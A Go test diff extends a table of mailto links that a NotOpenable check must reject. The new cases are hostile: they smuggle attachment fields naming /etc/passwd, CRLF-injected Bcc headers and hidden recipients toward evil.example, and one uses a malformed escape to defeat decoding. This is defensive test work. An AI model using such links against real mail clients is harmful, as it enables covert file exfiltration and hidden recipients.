@@ -253,6 +253,15 @@ func TestMailtoLinksNamingFilesAreNotOpened(t *testing.T) {
 		"mailto:x@evil.example?bcc=spy@evil.example",
 		"mailto:x@evil.example?x-mailer=y&subject=z",
 		"mailto:x@evil.example?%zz=1",
+		// An invalid escape made the address's decoding give up, and
+		// with it the check of what the address hid.
+		"mailto:x@evil.example%3Fattach=/etc/passwd%zz",
+		// Values that hide a field, a recipient or a header line.
+		"mailto:x@evil.example?subject=a%26attach%3D/etc/passwd",
+		"mailto:x@evil.example?subject=x%0D%0ABcc:%20spy@evil.example",
+		"mailto:x@evil.example?to=a@x.example%2Cspy@evil.example",
+		"mailto:x@evil.example?subject=hi,attachment=/etc/passwd",
+		"mailto:x@evil.example?to=a@x.example%27,attachment=%27/etc/passwd",
 	} {
 		why := NotOpenable(u)
 		if why == "" {
